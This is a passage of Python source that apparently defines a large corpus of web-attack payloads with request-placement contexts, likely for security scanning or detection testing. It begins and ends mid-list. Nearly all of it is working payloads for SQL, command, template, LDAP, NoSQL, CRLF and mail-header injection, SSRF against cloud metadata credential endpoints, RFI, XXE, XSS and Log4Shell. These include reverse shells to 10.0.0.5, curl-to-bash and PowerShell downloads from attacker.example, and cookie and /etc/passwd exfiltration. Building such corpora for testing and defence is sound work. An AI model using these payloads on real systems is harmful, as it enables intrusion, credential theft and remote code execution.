    E("1 AND 1=1 UNION SELECT 1,table_name FROM information_schema.tables", enc="ent", placement="form"),
]
CTX_SQLI = C(
    qp=["id", "q", "category", "user", "order_id", "sku", "page"],
    jf=["username", "search", "productId", "filter", "email", "orderId"],
    hn=["X-Forwarded-For", "Referer", "User-Agent", "X-Client-Id", "X-Tenant-Id", "X-Device-Id"],
    ck=["uid", "cart_id", "lang", "tracking", "region"],
    ep=["/api/products", "/search", "/api/v2/orders", "/catalog", "/reports/sales"],
    pe=["/api/v1/search", "/account/login", "/api/v2/orders/lookup", "/api/users/find", "/checkout/apply"],
    pp=["/api/products/", "/users/", "/catalog/item/", "/api/v1/orders/"],
    xj={"page": 1, "limit": 20},
    xf={"remember": "on"},
)

# ---------------- RFI and stream wrappers ----------------------------------
RFI = [
    "http://attacker.example/shell.txt?",
    "http://attacker.example/shell.txt\x00",
    "https://evil.example.net/c99.php?",
    "ftp://anonymous:anon@203.0.113.10/pub/r57.txt?",
    "http://203.0.113.7/inc.txt??",
    "//attacker.example/shell.php",
    "\\\\attacker.example\\share\\shell.php",
    "data://text/plain;base64," + b64("<?php system($_GET['c']); ?>"),
    "data:text/plain,<?php phpinfo();?>",
    E(
        "php://input",
        placement="query",
        param="page",
        endpoint="/index.php",
        method="POST",
        post_body="<?php system('id'); ?>",
        post_ctype="text/plain",
    ),
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=/etc/passwd",
    "expect://id",
    "zip://uploads/avatar.jpg#shell.php",
    "phar://uploads/image.gif/shell.php",
    "phar:///var/www/uploads/x.phar/test.txt",
    "php://filter/resource=http://attacker.example/s.txt",
    "http://attacker.example/s.txt?.php",
    "HTTP://ATTACKER.EXAMPLE/SHELL.TXT?",
    "hTtPs://pastebin.com/raw/abc123?",
    E("http://attacker.example/shell.txt?", enc="dbl", placement="query"),
    "http://0xCB007107/shell.txt?",
    "data:;base64," + b64np("<?php phpinfo(); ?>"),
    "http://attacker.example/s.txt#",
    "https://raw.githubusercontent.com/evil/repo/main/x.php?",
    "ftp://203.0.113.10/x.txt\x00.php",
    "expect://ls -la",
    "zip:///tmp/upload.zip#payload.php",
    "http://attacker.example:8080/b.php?cmd=id&",
    "data://text/plain;base64," + b64np("<?php system('id');?>"),
    E("http://attacker.example/shell.txt", enc="b64", placement="json", param="template"),
    "compress.zlib://http://attacker.example/shell.txt",
]
CTX_RFI = C(
    qp=["page", "file", "include", "template", "lang", "module", "view"],
    jf=["template", "include", "theme", "layout", "page"],
    hn=["X-Include", "X-Template", "Referer", "X-Theme"],
    ck=["lang", "theme", "layout"],
    ep=["/index.php", "/view.php", "/main.php", "/cms/page.php"],
    pe=["/index.php", "/admin/theme.php", "/api/render", "/cms/settings.php"],
    pp=["/page/", "/include/", "/view/"],
)

# ---------------- SSRF ----------------------------------------------------------
SSRF = [
    "http://[::1]/admin",
    "http://[::ffff:127.0.0.1]:8080/",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://0x7f000001/",
    "http://0x7f.0.0.1/server-status",
    "http://127.1/",
    "http://127.0.1:6379/",
    "http://0/",
    "http://0.0.0.0:22/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/user-data",
    "http://0251.0376.0251.0376/",
    "http://169.254.169.254.nip.io/",
    "http://127.0.0.1.nip.io:8080/",
    "http://localtest.me/admin",
    "http://7f000001.c0a80001.rbndr.us/",
    "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a",
    "gopher://localhost:25/_HELO%20localhost%0d%0aMAIL%20FROM%3A%3Cx%40evil.example%3E",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "file://localhost/c:/windows/win.ini",
    "http://evil@127.0.0.1/",
    "http://127.0.0.1#@allowed.example.com/",
    "http://allowed.example.com@169.254.169.254/",
    "http://allowed.example.com.127.0.0.1.nip.io/",
    "http://localhost:2375/containers/json",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    "http://[::]:80/",
    "http://0x7f.1/",
    "http://127.000.000.001/",
    "jar:http://127.0.0.1:8080/x.jar!/",
    "http://127.0.0.1:80\\@allowed.example.com/",
    "https://allowed.example.com/redirect?url=http://169.254.169.254/latest/meta-data/",
    E("http://169.254.169.254/latest/meta-data/", enc="b64", placement="json", param="source"),
    E("http://[::ffff:a9fe:a9fe]/", enc="dbl", placement="query"),
]
CTX_SSRF = C(
    qp=["url", "target", "image_url", "feed", "src", "callback", "proxy"],
    jf=["url", "webhook_url", "avatar_url", "feed_url", "callback", "endpoint"],
    hn=["X-Callback-Url", "X-Forwarded-Host", "Referer", "X-Original-URL", "X-Webhook-Url"],
    ck=["return_url", "preview_src", "callback"],
    ep=["/api/fetch", "/preview", "/proxy", "/api/v1/link-preview", "/image/resize"],
    pe=["/api/webhooks", "/api/v1/import", "/api/fetch", "/profile/avatar", "/api/integrations/test"],
    pp=["/proxy/", "/fetch/", "/api/preview/"],
    xj={"method": "GET"},
)

# ---------------- OS command injection -----------------------------------------
_ps_enc = base64.b64encode("whoami".encode("utf-16-le")).decode()
CMDI = [
    "127.0.0.1; cat /etc/passwd",
    "127.0.0.1 | id",
    "127.0.0.1 || whoami",
    "127.0.0.1 & net user",
    "127.0.0.1 && uname -a",
    "127.0.0.1\nid",
    "$(id)",
    "`whoami`",
    ";cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    ";c'a't /e't'c/pa''sswd",
    ';c"a"t /etc/pa"ss"wd',
    ";c\\at /et\\c/pas\\swd",
    ";/???/c?t /???/p?ss??",
    ";/bin/ca* /etc/pass*",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    "& type C:\\Windows\\win.ini",
    "| dir C:\\",
    "& powershell -enc " + _ps_enc,
    "|powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
    "& ping -n 10 127.0.0.1 &",
    ";sleep 10;",
    "$(sleep${IFS}5)",
    ";curl http://attacker.example/x.sh|bash",
    ";wget -qO- attacker.example/s|sh",
    ";bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
    ";nc -e /bin/sh 10.0.0.5 4444",
    "a;echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";X=$'cat\\x20/etc/passwd'&&$X",
    ";a=c;b=at;$a$b /etc/passwd",
    ';printf %s "$(id)"',
    E("\nid", enc="dbl", placement="query"),
    "|| ping -c 10 attacker.example",
    ";nslookup $(whoami).oob.attacker.example",
    ";rev<<<'dwssap/cte/ tac'|sh",
    ";tac$IFS/etc/shadow",
    "report.pdf; rm -rf /tmp/*",
    "--output=/var/www/html/shell.php",
    "$(curl${IFS}-d${IFS}@/etc/passwd${IFS}attacker.example)",
    "& cmd /c whoami",
    "| certutil -urlcache -split -f http://attacker.example/n.exe n.exe",
    ";cat</etc/passwd",
    ";{ls,-la,/}",
    ";/b[i]n/c[a]t /etc/passwd",
    "; who$@ami",
    ";w\\ho\\am\\i",
    "127.0.0.1\r\nwhoami",
    "| for /f %i in ('whoami') do nslookup %i.oob.attacker.example",
    "$(printf '\\x69\\x64')",
    "127.0.0.1;$(echo aWQ|base64 -d)",
    E("; cat /etc/passwd", enc="b64", placement="path"),
    E(";id", enc="uesc", param="host"),
    E("127.0.0.1 && curl attacker.example", enc="b64", placement="cookie"),
]
CTX_CMDI = C(
    qp=["host", "ip", "domain", "target", "file", "dir", "count"],
    jf=["host", "hostname", "ip", "filename", "path", "interface"],
    hn=["X-Forwarded-For", "X-Target-Host", "User-Agent", "X-Device-Name"],
    ck=["last_host", "device", "diag"],
    ep=["/cgi-bin/ping", "/api/diagnostics/ping", "/tools/traceroute", "/api/dns/lookup"],
    pe=["/api/diagnostics", "/admin/network/ping", "/api/v1/convert", "/api/backup/run"],
    pp=["/api/ping/", "/tools/nslookup/", "/files/convert/"],
    xj={"count": 4},
    xf={"count": "4"},
)

# ---------------- CRLF / header injection ------------------------------------------
CRLF = [
    "/\r\nSet-Cookie: sessionid=attacker",
    "en\r\nX-Injected: 1",
    "/home\r\nLocation: https://evil.example/",
    "\r\n\r\n<script>alert(document.domain)</script>",
    "x\nSet-Cookie: admin=true",
    E("/\r\nSet-Cookie: x=1", enc="dbl", placement="query"),
    "/\u560a\u560dSet-Cookie: whoami=attacker",
    "/\u560d\u560aLocation: https://evil.example/",
    (
        "\r\nContent-Length: 0\r\n\r\n"
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 19\r\n\r\n<h1>defaced</h1>"
    ),
    "utf-8\r\nAccess-Control-Allow-Origin: *",
    "\rSet-Cookie: a=b",
    E("/\u560a\u560dSet-Cookie: test=1", enc="dbl", placement="path"),
    "foo\r\n X-Folded: yes",
    "\r\nRefresh: 0; url=https://evil.example/",
    "\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>",
    "abc\r\nCache-Control: public, max-age=31536000",
    'admin\r\n127.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /admin HTTP/1.1" 200 512',
    "\nLocation: javascript:alert(1)",
    "https://shop.example.com/cart\r\nSet-Cookie: cart=evil; Domain=.example.com",
    "/dashboard\n\nHTTP/1.1 302 Found\nLocation: https://evil.example/",
    "en-US\r\nLink: <https://evil.example/x.css>; rel=stylesheet",
    E("example.com%0d%0aSet-Cookie: pwned=1", placement="header", header="X-Forwarded-Host"),
    E("/%0aX-Injected:%20header", placement="header", header="X-Original-URL"),
    E("https://app.example.com/%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", placement="header", header="Referer"),
    E("%0d%0aLocation:%20https://evil.example", placement="header", header="X-Rewrite-URL"),
    "\r\nSet-Cookie: JSESSIONID=attacker; Path=/; HttpOnly",
    "\r\nContent-Security-Policy: script-src *",
    E("\r\nX-Forwarded-Proto: http", enc="dbl", placement="form"),
    "page\r\n\tInjected-Header: value",
    "/login?next=/\r\nSet-Cookie: role=admin",
    E("/redirect\r\nLocation: //evil.example", placement="path"),
    E("dark\r\nSet-Cookie: admin=1", placement="cookie"),
    E("\r\nSet-Cookie: a=1", enc="uesc", param="redirect_to"),
]
CTX_CRLF = C(
    qp=["redirect", "next", "lang", "return_url", "url", "callback", "locale"],
    jf=["redirect_to", "return_url", "filename", "locale", "next"],
    hn=["X-Forwarded-Host", "X-Original-URL", "Referer"],
    ck=["lang", "theme", "return_to", "locale"],
    ep=["/redirect", "/login", "/set-language", "/download", "/r"],
    pe=["/api/session/redirect", "/api/export", "/settings/locale", "/api/v1/links"],
    pp=["/r/", "/lang/", "/go/"],
)

# ---------------- mail header injection ---------------------------------------------
MAIL = [
    "attacker@evil.example\nBcc: victim1@example.com,victim2@example.com",
    "user@example.com\r\nCc: spam@example.net",
    "John Smith\r\nTo: victim@example.org",
    "Hello\r\nBcc: list@example.org\r\n\r\nCheap meds, click http://spam.example/",
    E("x@example.com\nBcc: y@example.com", enc="dbl", placement="form"),
    "a@example.com\nContent-Type: multipart/mixed; boundary=evil\n\n--evil\nContent-Type: text/html\n\n<a href=http://phish.example>verify</a>\n--evil--",
    "victim@example.com>\r\nRCPT TO:<other@example.com",
    "test@example.com\r\nReply-To: attacker@evil.example",
    "test@example.com\nX-Mailer: spam\nBcc: a@example.net",
    "me@example.com\rBCC:you@example.com",
    '"attacker\\" -oQ/tmp/ -X/var/www/cache/phpcode.php some"@email.com',
    "Subject\r\nTo: a@example.net, d@example.org",
    "name@example.com\r\nBcc: spam@example.net",
    "x@example.com\r\nDATA\r\nSubject: hi\r\n.\r\nQUIT",
    "me@example.com\nbcc: x@example.net",
    E("me@example.com\r\nBcc: everyone@example.org", enc="uesc", param="email"),
]
CTX_MAIL = C(
    qp=["email", "to", "from", "subject"],
    jf=["email", "name", "subject", "from", "replyTo"],
    hn=["X-Mail-From"],
    ck=["newsletter_email", "contact_name"],
    ep=["/contact/send", "/newsletter/subscribe", "/share/email"],
    pe=["/contact", "/api/v1/contact", "/support/ticket", "/api/share/email", "/newsletter/signup"],
    pp=["/unsubscribe/"],
    xj={"message": "Hi, please get back to me."},
    xf={"message": "Hello there", "consent": "1"},
)

# ---------------- SSTI ---------------------------------------------------------------
_hbs = (
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}'
    '{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}'
    "{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}"
    "{{/with}}{{/with}}{{/with}}{{/with}}"
)
SSTI = [
    "{{config}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{joiner.__init__.__globals__.os.popen('id').read()}}",
    "{{namespace.__init__.__globals__.os.popen('id').read()}}",
    (
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
        "{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}"
        "{% endif %}{% endfor %}"
    ),
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
    "{{7*'7'}}",
    "{% print(config) %}",
    "{{url_for.__globals__.os.environ}}",
    "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
    "{{()|attr('__class__')|attr('__base__')|attr('__subclasses__')()}}",
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{app.request.server.all|join(',')}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '${"freemarker.template.utility.Execute"?new()("id")}',
    "<#assign classloader=object?api.class.protectionDomain.classLoader>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
    "<%= system('id') %>",
    "<%= `ls /` %>",
    "<%= File.open('/etc/passwd').read %>",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    _hbs,
    '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x',
    '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x',
    "<% import os; x=os.popen('id').read() %>${x}",
    '${self.module.cache.util.os.system("id")}',
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    '{% import os %}{{ os.popen("id").read() }}',
    "{{ settings.SECRET_KEY }}",
    E(
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        enc="b64",
        placement="json",
        param="template_b64",
    ),
    E(
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("whoami")}',
        enc="b64",
        placement="json",
        param="body",
    ),
    E("{{lipsum.__globals__.os.popen('id').read()}}", enc="b64url", placement="path"),
    E("{{cycler.__init__.__globals__.os.popen('id').read()}}", enc="uesc", param="greeting"),
]
CTX_SSTI = C(
    qp=["name", "template", "greeting", "message", "preview", "title"],
    jf=["template", "subject", "body", "greeting", "signature", "title"],
    hn=["X-Template", "User-Agent", "X-Display-Name", "Referer"],
    ck=["display_name", "greeting", "theme_tpl"],
    ep=["/greet", "/preview", "/api/render", "/email/preview", "/profile"],
    pe=["/api/templates/preview", "/api/email/render", "/api/v1/notifications", "/admin/pages", "/api/invoices/render"],
    pp=["/hello/", "/render/", "/preview/"],
    xj={"locale": "en"},
)

# ---------------- LDAP injection -------------------------------------------------------
LDAP = [
    "*)(uid=*))(|(uid=*",
    "admin)(|(password=*))",
    "*)(|(objectClass=*)",
    "admin)(&)",
    "*)(uid=*",
    "\\2a)(uid=\\2a",
    "admin)\x00",
    "*))\x00",
    "*)(userPassword=*)",
    "admin)(!(&(1=0",
    "x*)(|(mail=*@*)",
    "*)(cn=*))(|(cn=*",
    "*()|&'",
    "admin*)((|userpassword=*)",
    "*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local",
    "jdoe)(|(description=*pass*)",
    ")(sn=*",
    "*)(objectClass=user))(&(objectClass=void",
    "\\2a\\29\\28\\7c\\28uid=\\2a",
    E("*)(uid=*))(|(uid=*", enc="b64", placement="cookie"),
    E("admin)(|(userPassword=*)", enc="dbl", placement="query"),
    E("*)(|(mail=*)", enc="uesc", param="username"),
]
CTX_LDAP = C(
    qp=["user", "username", "cn", "search", "uid", "group"],
    jf=["username", "uid", "search", "group", "manager"],
    hn=["X-Remote-User", "X-Auth-User", "X-Forwarded-User"],
    ck=["ldap_user", "directory_filter"],
    ep=["/directory/search", "/api/ldap/users", "/people", "/auth/lookup"],
    pe=["/auth/ldap", "/api/v1/directory/search", "/sso/login", "/api/groups/members"],
    pp=["/directory/user/", "/api/people/"],
    xf={"password": "Summer2024!"},
    xj={"password": "hunter2"},
)

# ---------------- XSS ------------------------------------------------------------------
_xss_iframe = '<iframe src="data:text/html;base64,{}">'.format(b64np("<script>alert(document.domain)</script>"))
_xss_embed = '<embed src="data:image/svg+xml;base64,{}">'.format(
    b64("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
)
XSS = [
    "<svg onload=(alert)(1)>",
    "<img src=x onerror=alert`1`>",
    "<svg/onload=top['al'+'ert'](document.domain)>",
    "<details open ontoggle=alert(1)>",
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">c</a>',
    _xss_iframe,
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script src=//attacker.example/x.js></script>',
    "'-alert(1)-'",
    '";alert(document.cookie);//',
    "${alert(document.domain)}",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x onerror=window['ev'+'al'](atob('YWxlcnQoMSk'))>",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
    ),
    "<x onclick=alert(1)>click me",
    "<svg><script>alert&#40;1&#41;</script>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<img src=1 onerror=eval(location.hash.slice(1))>",
    '<object data="javascript:alert(1)">',
    _xss_embed,
    "<img src=x onerror=\\u0061lert(1)>",
    "<svg onload=alert&lpar;1&rpar;>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src/onerror=import('//attacker.example/m.js')>",
    '<video><source onerror="alert(1)">',
    "<marquee onstart=alert(1)>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    E("<script>alert(1)</script>", enc="dbl", placement="query"),
    E("<img src=x onerror=alert(1)>", enc="uesc", param="bio"),
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "{{constructor.constructor('alert(1)')()}}",
    "<img src=x onerror=fetch('//attacker.example/?c='+document.cookie)>",
    "<svg onload=setTimeout`alert\\u00281\\u0029`>",
    E("javascript:alert(document.cookie)", placement="query", param="redirect"),
    '<base href="//attacker.example/">',
    E("<svg onload=alert(1)>", enc="ent", placement="json", param="title"),
    E("<script>alert(1)</script>", enc="b64", placement="path"),
]
CTX_XSS = C(
    qp=["q", "name", "message", "return", "search", "ref", "title"],
    jf=["comment", "bio", "displayName", "title", "description", "message"],
    hn=["Referer", "User-Agent", "X-Forwarded-Host", "X-Display-Name"],
    ck=["username", "last_search", "greeting"],
    ep=["/search", "/profile", "/welcome", "/error", "/share"],
    pe=["/api/v1/comments", "/api/profile", "/guestbook", "/api/posts", "/support/tickets"],
    pp=["/search/", "/u/", "/tag/"],
)

# ---------------- path traversal ---------------------------------------------------------
_ovl = b"\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc/passwd"
PT = [
    E("../../../../etc/passwd", placement="query", param="file", endpoint="/download"),
    E("../../../../etc/passwd", enc="dbl", placement="query", param="template", endpoint="/render"),
    E(_ovl.decode("latin-1"), placement="query", param="file", endpoint="/static/get", wire=qb(_ovl)),
    E("..;/..;/WEB-INF/web.xml", placement="path", endpoint="/app", wire="..;/..;/WEB-INF/web.xml"),
    E("....//....//....//etc/passwd", placement="json", param="path", endpoint="/api/files/read"),
    E("..\\..\\..\\windows\\win.ini", placement="cookie", cookie="template", endpoint="/dashboard"),
    E("/var/www/html/../../../etc/shadow", placement="form", param="document", endpoint="/docs/view"),
    E("../../../etc/passwd", enc="dbl", placement="path", endpoint="/download"),
    E("..%u2215..%u2215..%u2215etc%u2215passwd", placement="query", param="file", endpoint="/files"),
    E("/static/../../../../proc/self/environ", placement="header", header="X-Original-URL", endpoint="/"),
    E(
        "../../../var/www/html/shell.php",
        placement="multipart",
        param="upload",
        fname_payload=True,
        mp_value="GIF89a",
        part_ctype="image/gif",
        endpoint="/api/upload",
    ),
    E("../../../etc/passwd\x00.png", placement="query", param="img", endpoint="/image"),
    E("../../../etc/passwd", placement="path", endpoint="/static", wire="..%2f..%2f..%2fetc%2fpasswd"),
    E("../../../../../etc/hosts", enc="b64url", placement="path", endpoint="/api/attachments"),
    E("..\\..\\..\\..\\inetpub\\wwwroot\\web.config", enc="uesc", param="filename", endpoint="/api/export"),
]

# ---------------- NoSQL injection ---------------------------------------------------------
_mp_nosql_b = (
    '--{BND}\r\nContent-Disposition: form-data; name="username"\r\n\r\nadmin\r\n'
    '--{BND}\r\nContent-Disposition: form-data; name="password[$exists]"\r\n\r\ntrue\r\n--{BND}--\r\n'
)
NOSQL = [
    E(
        "username[$ne]=nobody&password[$ne]=nobody",
        placement="query",
        endpoint="/api/login",
        rawq="username%5B%24ne%5D=nobody&password%5B%24ne%5D=nobody",
    ),
    E(
        "password[$regex]=^a.*",
        placement="query",
        endpoint="/api/users",
        rawq="user=admin&password%5B%24regex%5D=%5Ea.%2A",
    ),
    E(
        "username[$gt]=&password[$gt]=",
        placement="form",
        endpoint="/login",
        body="username%5B%24gt%5D=&password%5B%24gt%5D=",
    ),
    E(
        '{"$ne": null}',
        placement="json",
        endpoint="/api/auth/login",
        body=json.dumps({"username": "admin", "password": {"$ne": None}}),
    ),
    E(
        '{"$regex": "^adm"}',
        placement="json",
        endpoint="/api/auth/login",
        body=json.dumps({"username": {"$regex": "^adm"}, "password": {"$gt": ""}}),
    ),
    E(
        '{"$where": "sleep(5000) || true"}',
        placement="json_key",
        endpoint="/api/products/search",
        body=json.dumps({"$where": "sleep(5000) || true"}),
    ),
    E("'; return true; var x='", placement="json", param="name", endpoint="/api/products/search"),
    E(
        '{"$in": ["admin", "root"]}',
        placement="json",
        endpoint="/api/auth/login",
        body=json.dumps({"username": {"$in": ["admin", "root"]}, "password": {"$exists": True}}),
    ),
    E("' || 1==1//", placement="query", param="user", endpoint="/api/profile"),
    E('{"role": {"$ne": "user"}}', placement="cookie", cookie="filter", endpoint="/api/admin/users"),
    E(
        "user[$nin][]=x&pass[$nin][]=x",
        placement="form",
        endpoint="/login",
        body="user%5B%24nin%5D%5B%5D=x&pass%5B%24nin%5D%5B%5D=x",
    ),
    E(
        '{"$where": "this.password.match(/^a.*/)"}',
        placement="json",
        endpoint="/api/users/query",
        body=json.dumps({"filter": {"$where": "this.password.match(/^a.*/)"}}),
    ),
    E('{"price": {"$gt": 0}, "$where": "1==1"}', placement="header", header="X-Filter", endpoint="/api/products"),
    E("password[$exists]", placement="multipart", endpoint="/login", body=_mp_nosql_b),
    E(
        '{"$gt": ""}',
        placement="json",
        endpoint="/api/auth/login",
        body=dumps_u({"username": "admin", "password": {"$gt": ""}}, set("$")),
    ),
    E(
        "username[$ne]",
        placement="json_key",
        endpoint="/api/login",
        body=json.dumps({"username[$ne]": "x", "password[$ne]": "x"}),
    ),
]

# ---------------- XXE ----------------------------------------------------------------------
XXE_DOCS = [
    '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>',
    (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE data [<!ENTITY % dtd SYSTEM '
        '"http://attacker.example/evil.dtd"> %dtd;]>\n<data>&send;</data>'
    ),
    '<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<order><id>1</id><note>&meta;</note></order>',
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>\n<r>&x;</r>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    (
        '<?xml version="1.0" standalone="yes"?>\n'
        '<!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]>\n'
        '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1">'
        '<text font-size="16" x="0" y="16">&xxe;</text></svg>'
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
        '"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 '
        '"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 '
        '"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n<lolz>&lol4;</lolz>'
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM '
        '"file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM '
        '"file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM '
        "&#x27;file:///nonexistent/&#x25;file;&#x27;>\">&#x25;eval;&#x25;error;'>%local_dtd;]>\n<message>x</message>"
    ),
    '<?xml version="1.0"?>\n<!DOCTYPE soap [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&x;</id></getUser></soap:Body></soap:Envelope>',
    '<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE foo PUBLIC "-//X//EN" "http://attacker.example/x.dtd"><foo/>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "ftp://attacker.example:2121/x.dtd">%p;]><d/>',
]
XXE = [
    E(XXE_DOCS[0], placement="xml", endpoint="/api/v1/import"),
    E(XXE_DOCS[1], placement="xml", endpoint="/xmlrpc", ctype="text/xml"),
    E(XXE_DOCS[2], placement="xml", endpoint="/api/orders", ctype="application/xml; charset=utf-8"),
    E(XXE_DOCS[3], placement="form", param="xml", endpoint="/api/feed/parse"),
    E(XXE_DOCS[4], placement="xml", endpoint="/soap/users"),
    E(
        XXE_DOCS[5],
        placement="multipart",
        param="image",
        filename="avatar.svg",
        part_ctype="image/svg+xml",
        endpoint="/profile/avatar",
    ),
    E(XXE_DOCS[6], placement="xml", endpoint="/api/v1/import"),
    E(XXE_DOCS[7], placement="json", param="xml", endpoint="/api/documents/convert"),
    E(
        XXE_DOCS[8],
        placement="xml",
        endpoint="/ws/UserService",
        ctype="text/xml; charset=utf-8",
        hdrs={"SOAPAction": '"getUser"'},
    ),
    E(XXE_DOCS[9], placement="query", param="data", endpoint="/api/xml/validate"),
    E(
        XXE_DOCS[10],
        placement="multipart",
        param="file",
        filename="report.xml",
        part_ctype="text/xml",
        endpoint="/reports/upload",
    ),
    E(XXE_DOCS[11], placement="xml", endpoint="/saml/acs", ctype="application/xml"),
]

# ---------------- Log4Shell --------------------------------------------------------------------
LOG4J = [
    "${jndi:ldap://attacker.example:1389/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/x}",
